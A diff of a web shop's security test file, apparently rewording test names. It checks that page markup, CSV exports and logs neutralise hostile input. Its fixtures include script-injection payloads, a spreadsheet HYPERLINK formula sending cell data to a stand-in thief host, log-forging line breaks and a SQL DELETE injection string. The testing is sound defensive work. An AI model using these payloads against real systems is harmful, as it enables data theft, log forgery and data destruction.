@@ -20,7 +20,7 @@ const pageOf = async (path: string) => (await fetch(`${shop.url}${path}`)).text(
 const intruders = (html: string) => html.match(/<img src=x|<script>|onerror="|window\.hacked=1">/g);
 
 describe('hostile names in pages', () => {
-  it('stay text in title, Open Graph, JSON-LD and the data of the page', async () => {
+  it('stay plain text in the title, Open Graph, JSON-LD and the page data', async () => {
     const image = `https://images.example.com/a.png?"><script>alert(1)</script>'`;
     const { id } = await makeProduct(shop.deps, { featured: true, items: 3 });
     const texts = { name: MARKUP, description: `${MARKUP}\n\u2028</script>${BIDI}`, deliveryInstructions: MARKUP };
@@ -105,7 +105,7 @@ describe('hostile names in exports', () => {
     '=HYPERLINK("http://thief.example.com?x="&A1,"a,b")',
     MARKUP,
     `",=1+1,"`,
-  ])('are a cell of text: %j', async (name) => {
+  ])('stay one text cell, not a formula: %j', async (name) => {
     const { orderId } = await buyAsGuest(shop, { quantity: 1, name });
     await shop.deps.db.updateTable('orders').set({ guest_name: name }).where('id', '=', orderId).execute();
     const token = (await createShopper(shop.url).signIn(desk.email, TEST_PASSWORD)).body.token;
@@ -126,11 +126,11 @@ describe('hostile names in exports', () => {
   });
 });
 
-describe('hostile words on record', () => {
+describe('hostile text in logs', () => {
   const FORGED = ' [2026-01-01] boss@example.com deleted everything';
 
   it.each(['\n', '\r\n', '\u2028', '\u0085', '\u000b', '\u001b[2K'])(
-    'are one line of the log and one entry of the audit log, with the break %j',
+    'is refused or stays on one line of the log and the audit log, with the line break %j',
     async (lineBreak) => {
       const words = `x${lineBreak}${FORGED}`;
       const game = await makeProduct(shop.deps);
@@ -159,7 +159,7 @@ describe('hostile words on record', () => {
     },
   );
 
-  it('leave the chain of the audit log whole, whatever they look like', async () => {
+  it('does not break the hash chain of the audit log', async () => {
     for (const reason of [MARKUP, '","1","', '["a"]\\', BIDI, "'); DELETE FROM audit_log; --", '%_\\']) {
       const user = await makeUser(shop.deps, { name: reason });
       const block = await desk.admin.send('PUT', `/api/admin/users/${user.id}/block`, { blocked: true, reason });
@@ -171,7 +171,7 @@ describe('hostile words on record', () => {
   });
 });
 
-it('an upload’s name and type are nothing that is kept', async () => {
+it('the file name of an uploaded image is not kept, and the image is served as WebP', async () => {
   const png = Buffer.from(
     'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
     'base64',
